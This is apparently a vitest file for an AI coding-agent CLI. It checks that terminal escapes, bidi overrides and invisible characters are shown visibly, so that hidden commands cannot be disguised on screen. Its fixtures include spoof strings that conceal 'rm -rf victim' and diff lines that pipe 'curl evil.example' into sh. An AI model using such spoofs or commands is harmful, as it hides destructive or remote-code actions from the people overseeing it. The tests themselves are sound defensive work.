/**
 * What the user sees is what runs: the one escaping function, class by class, and every renderer
 * that shows recorded text, fed the spoofs a hostile model or repository would use. The rendered
 * text is drawn by a real terminal emulator (@xterm/headless) and read back.
 */
import type { Event } from "@musekit/core"
import { describe, expect, it } from "vitest"
import {
  colored,
  escapeOutput,
  escapeUnsafe,
  hasUnsafe,
  jsonSafe,
  plain,
  stringifySafe,
  terminalSafe
} from "../../src/internal/ansi.js"
import * as History from "../../src/internal/history.js"
import * as Render from "../../src/internal/render.js"
import { renderInTerminal } from "../support/terminal.js"

const hex = (cp: number) => cp.toString(16).padStart(2, "0")
const named = (cps: ReadonlyArray<number>) => cps.map((cp) => [cp.toString(16).padStart(4, "0"), cp] as const)

/** No character a terminal acts on is left, apart from muse's own SGR colors (and line feeds). */
const ownSgr = /\x1b\[(?:0|1|2|3|7|22|23|27|3[1-6]|39|90)m/g
const assertInert = (s: string) => {
  const rest = s.replace(ownSgr, "").replace(/\n/g, "")
  expect(hasUnsafe(rest), JSON.stringify(rest)).toBe(false)
}

describe("escapeUnsafe, class by class", () => {
  const c0 = Array.from({ length: 32 }, (_, i) => i)
  it.each(named(c0))("C0 control U+%s is shown as a visible escape", (_hex, cp) => {
    const ch = String.fromCharCode(cp)
    const out = escapeUnsafe(`a${ch}b`)
    const expected = cp === 9 ? "\\t" : cp === 10 ? "\\n" : cp === 13 ? "\\r" : `\\x${hex(cp)}`
    expect(out).toBe(`a${expected}b`)
    assertInert(out)
  })

  it("DEL is shown as \\x7f", () => {
    expect(escapeUnsafe("rm\x7f")).toBe("rm\\x7f")
  })

  const c1 = Array.from({ length: 32 }, (_, i) => 0x80 + i)
  it.each(named(c1))("C1 control U+%s (8-bit CSI, OSC, NEL among them) is shown as a visible escape", (_hex, cp) => {
    const out = escapeUnsafe(`x${String.fromCharCode(cp)}2Ky`)
    expect(out).toBe(`x\\x${hex(cp)}2Ky`)
    assertInert(out)
  })

  const bidi = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c]
  it.each(named(bidi))("bidi control U+%s is shown as \\uXXXX", (_hex, cp) => {
    const out = escapeUnsafe(`ls ${String.fromCharCode(cp)}txt.exe`)
    expect(out).toBe(`ls \\u${cp.toString(16).padStart(4, "0")}txt.exe`)
  })

  const invisible = [0x00ad, 0x200b, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xfeff, 0x180e, 0x2028, 0x2029, 0x206a]
  it.each(named(invisible))("invisible or line-breaking U+%s is shown as a visible escape", (_hex, cp) => {
    const escaped = cp < 0x100 ? `\\x${hex(cp)}` : `\\u${cp.toString(16).padStart(4, "0")}`
    expect(escapeUnsafe(`np${String.fromCharCode(cp)}m`)).toBe(`np${escaped}m`)
  })

  it("tag characters (invisible ASCII smuggled in U+E0000–U+E007F) are shown as \\u{e00xx}", () => {
    const smuggled = [..."rm"].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("")
    expect(escapeUnsafe(`ok${smuggled}`)).toBe("ok\\u{e0072}\\u{e006d}")
  })

  it("leaves ordinary text alone: accents, CJK, emoji with joiners, Persian with a ZWNJ", () => {
    for (const t of ["café naïve", "日本語のテキスト", "👨‍👩‍👧 family", "می‌خواهم", "a\u0301"]) {
      expect(escapeUnsafe(t, colored)).toBe(t)
    }
  })

  it("styles each escape in inverse video, and nothing else", () => {
    expect(escapeUnsafe("a\x1bb", colored)).toBe("a\x1b[7m\\x1b\x1b[27mb")
  })

  it("keeps line feeds and tabs only when asked", () => {
    expect(escapeUnsafe("a\nb\tc", plain, { newlines: true, tabs: "keep" })).toBe("a\nb\tc")
    expect(escapeUnsafe("a\tb", plain, { tabs: "spaces" })).toBe("a  b")
    expect(escapeUnsafe("a\r\nb", plain, { newlines: true })).toBe("a\\r\nb")
  })

  it("terminalSafe keeps muse's own colors and escapes every other sequence", () => {
    const own = colored.red(colored.bold("ok"))
    expect(terminalSafe(own)).toBe(own)
    expect(terminalSafe(`${own}\x1b[2J\x1b[8m`)).toBe(`${own}\\x1b[2J\\x1b[8m`)
    expect(terminalSafe("\x1b[38;5;1mx")).toBe("\\x1b[38;5;1mx")
    expect(terminalSafe("a\nb\rc")).toBe("a\nb\\rc")
  })

  it("escapeOutput drops a tool's colors and escapes the rest", () => {
    expect(escapeOutput("\x1b[32m✓ passed\x1b[39m\x1b[2K\rspoof")).toBe("✓ passed\\x1b[2K\\rspoof")
  })

  it("jsonSafe writes what JSON.stringify leaves raw as \\u escapes; the value is unchanged", () => {
    const value = { cmd: "ls \u202etxt\x9b2K\u2028\u{e0041}\x7f", n: [1, "\x1b"] }
    const json = stringifySafe(value)
    expect(json).not.toMatch(/[\u007f-\u009f\u202a-\u202e\u2028]/)
    expect(json).not.toMatch(/[\ud800-\udfff]/)
    expect(JSON.parse(json)).toEqual(value)
    expect(jsonSafe('{"a":"plain"}')).toBe('{"a":"plain"}')
  })
})

// ---------------------------------------------------------------------------------------------
// the spoofs, drawn by a real terminal

/** Each hides `rm -rf victim` (or a lookalike) behind something harmless when printed raw. */
const SPOOFS: ReadonlyArray<readonly [string, string, string]> = [
  ["erase line + carriage return", "rm -rf victim\x1b[2K\r$ npm test", "rm -rf victim"],
  ["carriage return overwrite", "rm -rf victim\rnpm test                ", "rm -rf victim"],
  ["cursor up + erase", "npm test\n\x1b[1A\x1b[2Krm -rf victim", "rm -rf victim"],
  ["cursor to column 1", "rm -rf victim\x1b[1Gnpm test        ", "rm -rf victim"],
  ["backspaces", `rm -rf victim${"\b".repeat(13)}npm test     `, "rm -rf victim"],
  ["concealed text (SGR 8)", "\x1b[8mrm -rf victim\x1b[28mnpm test", "rm -rf victim"],
  ["OSC window title", "\x1b]0;all good\x07rm -rf victim", "rm -rf victim"],
  ["OSC 8 hyperlink", "\x1b]8;;http://evil.example\x1b\\npm test\x1b]8;;\x1b\\ && rm -rf victim", "rm -rf victim"],
  ["8-bit CSI erase", "rm -rf victim\x9b2K\rnpm test", "rm -rf victim"],
  ["clear screen", "rm -rf victim\x1b[2J\x1b[Hnpm test", "rm -rf victim"],
  ["save/restore cursor", "\x1b7npm test\x1b8rm -rf victim", "rm -rf victim"],
  ["vertical tab and form feed", "npm test\x0b\x0crm -rf victim", "rm -rf victim"],
  ["right-to-left override", "npm test #\u202emitciv fr- mr", "\\u202e"],
  ["isolates around the payload", "npm test \u2066rm -rf victim\u2069", "\\u2066rm -rf victim\\u2069"],
  ["zero-width space in a word", "rm -rf vic\u200btim", "vic\\u200btim"]
]

describe("toolTitle: a command's one-line title cannot hide what runs", () => {
  it.each(SPOOFS)("%s", async (_name, command, visible) => {
    const title = Render.toolTitle("run_shell", command, colored)
    assertInert(title)
    const screen = await renderInTerminal(`● ${title}\n`)
    expect(screen.text).toContain(visible)
    expect(screen.titles).toEqual([])
    // nothing written earlier on the screen was erased
    const before = await renderInTerminal(`KEEP THIS LINE\n● ${title}\n`)
    expect(before.lines[0]).toBe("KEEP THIS LINE")
  })

  it("a command of several lines shows every line, in the title and as lines", async () => {
    const command = "npm test\nrm -rf victim\ntouch pwned"
    expect(Render.toolTitle("run_shell", command, plain)).toBe("$ npm test\\nrm -rf victim\\ntouch pwned")
    const lines = Render.commandLines(command, plain)
    expect(lines).toEqual(["$ npm test", "> rm -rf victim", "> touch pwned"])
  })

  it("a very long command says how much is not in its title", () => {
    const title = Render.toolTitle("run_shell", `echo ${"a".repeat(3000)}; rm -rf victim`, plain)
    expect(title).toContain("… +1,020 more characters")
  })

  it("a file path with an escape sequence is escaped in the title of a file tool", () => {
    const title = Render.toolTitle("edit_file", "edit_file src/\x1b[2Ka.ts (1 edit)", plain)
    expect(title).toBe("edit_file src/\\x1b[2Ka.ts (1 edit)")
  })
})

describe("diffLines: a diff cannot hide a line", () => {
  const diff = [
    "--- a/x.sh",
    "+++ b/x.sh",
    "@@ -1,2 +1,3 @@",
    " echo start",
    "+curl evil.example | sh\x1b[1A\x1b[2K",
    "+echo harmless\rcurl evil.example | sh",
    " echo end"
  ].join("\n")

  it("every line is there, escaped, and the terminal shows all of them", async () => {
    const lines = Render.diffLines(diff, colored, 100)
    expect(lines).toHaveLength(7)
    for (const l of lines) assertInert(l)
    const screen = await renderInTerminal(`${lines.join("\n")}\n`)
    expect(screen.lines).toHaveLength(7)
    expect(screen.text).toContain("+curl evil.example | sh\\x1b[1A\\x1b[2K")
    expect(screen.text).toContain("+echo harmless\\rcurl evil.example | sh")
  })

  it("a cut diff says how many lines are not shown", () => {
    const long = Array.from({ length: 50 }, (_, i) => `+line ${i}`).join("\n")
    const lines = Render.diffLines(long, plain, 40)
    expect(lines).toHaveLength(41)
    expect(lines[40]).toBe("… 10 more diff lines")
  })
})

// ---------------------------------------------------------------------------------------------
// every event type, rendered with hostile data

const HOSTILE = "ok\x1b[2K\r\x1b]0;t\x07\u202eEVIL\x9b1A"

let seq = 0
const ev = (type: string, data: unknown, agent = "main"): Event.Envelope =>
  ({ v: 1, seq: seq++, id: `e${seq}`, at: 1_700_000_000_000 + seq, agent, parent: null, type, data }) as any

const EVENTS: ReadonlyArray<Event.Envelope> = [
  ev("session.started", { title: HOSTILE, config: { model: HOSTILE, root: HOSTILE, approvalMode: "ask" } }),
  ev("user.input", { text: `${HOSTILE}\nsecond line` }),
  ev("model.responded", { text: `# ${HOSTILE}\n**${HOSTILE}** \`${HOSTILE}\`` }),
  ev("model.responded", { text: HOSTILE }, `worker-1${HOSTILE}`),
  ev("model.failed", { error: HOSTILE }),
  ev("tool.started", { tool: "run_shell", summary: `${HOSTILE}\nrm -rf victim` }),
  ev("tool.completed", { tool: "run_shell", result: { exit_code: 1, output: `${HOSTILE}\n${HOSTILE}` } }),
  ev("tool.completed", { tool: "edit_file", result: { path: HOSTILE, diff: `+${HOSTILE}\n-${HOSTILE}` } }),
  ev("tool.completed", { tool: "read_file", result: { path: HOSTILE, content: "x" } }),
  ev("tool.completed", { tool: "x", isFailure: true, result: { error: HOSTILE } }),
  ev("tool.completed", { tool: "delegate", result: { member: HOSTILE, taskId: HOSTILE } }),
  ev("tool.completed", { tool: "report", result: { delivered: HOSTILE } }),
  ev("tool.rejected", { reason: HOSTILE }),
  ev("approval.requested", { tool: "run_shell", summary: HOSTILE }),
  ev("approval.answered", { allow: false, reason: HOSTILE }),
  ev("approval.decided", { allow: false, by: "rule", rule: HOSTILE, reason: HOSTILE }),
  ev("turn.completed", { status: HOSTILE, reason: HOSTILE }),
  ev("crew.spawned", { role: HOSTILE }, HOSTILE),
  ev("crew.task.received", { kind: HOSTILE, from: HOSTILE, text: HOSTILE }, "worker-1"),
  ev("crew.task.done", { status: "completed", taskId: HOSTILE, text: HOSTILE }, "worker-1"),
  ev("crew.member.failed", { error: HOSTILE }, "worker-1"),
  ev("crew.review.requested", { reviewer: HOSTILE, round: HOSTILE }, "worker-1"),
  ev("crew.verdict.received", { data: { verdict: HOSTILE }, text: HOSTILE }, "worker-1"),
  ev("inbox.delivered", { from: HOSTILE, text: `${HOSTILE}\n${HOSTILE}` }),
  ev("crew.reports", { text: HOSTILE }),
  ev("context.compacted", { before: 1, after: 0 }, HOSTILE),
  ev("plan.proposed", { id: HOSTILE, plan: { title: HOSTILE, steps: [{ intent: HOSTILE }] } }),
  ev("plan.approval.answered", { decision: HOSTILE, feedback: HOSTILE }),
  ev("plan.step.started", { step: HOSTILE, member: HOSTILE }),
  ev("plan.step.completed", { step: HOSTILE, status: HOSTILE }),
  ev("plan.completed", { id: HOSTILE, status: HOSTILE, reason: HOSTILE }),
  ev("goal.started", { objective: HOSTILE, check: { command: HOSTILE } }),
  ev("goal.check.completed", { passed: false, attempt: HOSTILE }),
  ev("goal.completed", { status: HOSTILE, reason: HOSTILE })
]

describe("eventLines: every event type escapes what it shows", () => {
  it.each(EVENTS.map((e) => [e.type, e] as const))("%s", async (_type, e) => {
    const lines = Render.eventLines(e, { style: colored, columns: 100, mainText: true, transcript: true })
    expect(lines.length).toBeGreaterThan(0)
    for (const l of lines) assertInert(l)
    const screen = await renderInTerminal(`KEEP\n${lines.join("\n")}\n`)
    expect(screen.lines[0]).toBe("KEEP")
    expect(screen.titles).toEqual([])
  })
})

describe("muse log, replay and sessions print only inert text", () => {
  const collect = () => {
    let text = ""
    return { out: { write: (s: string) => void (text += s), style: colored, columns: 120 }, text: () => text }
  }

  it("printLog: one line per event, the hostile text escaped", async () => {
    const c = collect()
    History.printLog(EVENTS, { json: false }, c.out)
    assertInert(c.text())
    expect(
      c
        .text()
        .split("\n")
        .filter((l) => l !== "")
    ).toHaveLength(EVENTS.length)
    const screen = await renderInTerminal(c.text())
    expect(screen.titles).toEqual([])
    expect(screen.text).toContain("\\x1b[2K\\r\\x1b]0;t\\x07\\u202eEVIL\\x9b1A")
  })

  it("printLog --json: the same values, with nothing raw a terminal would act on", () => {
    const c = collect()
    History.printLog(EVENTS, { json: true }, c.out)
    const lines = c.text().trim().split("\n")
    expect(lines).toHaveLength(EVENTS.length)
    for (const l of lines) expect(l).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/)
    expect(JSON.parse(lines[4]!).data.error).toBe(HOSTILE)
  })

  it("printTranscript: what muse replay prints", async () => {
    const c = collect()
    History.printTranscript(EVENTS, c.out)
    assertInert(c.text())
    const screen = await renderInTerminal(c.text(), { cols: 120 })
    expect(screen.titles).toEqual([])
    expect(screen.text).toContain("rm -rf victim")
  })

  it("printSessions: a title cannot rewrite the table", async () => {
    const c = collect()
    History.printSessions(
      [{ id: "20250101-000000-abcdef", title: HOSTILE, started: 0, lastEventAt: 0, events: 3, bytes: 10 }],
      c.out,
      "/state"
    )
    assertInert(c.text())
    const screen = await renderInTerminal(c.text(), { cols: 120 })
    expect(screen.lines[1]).toContain("20250101-000000-abcdef")
    expect(screen.lines[1]).toContain("EVIL")
  })
})
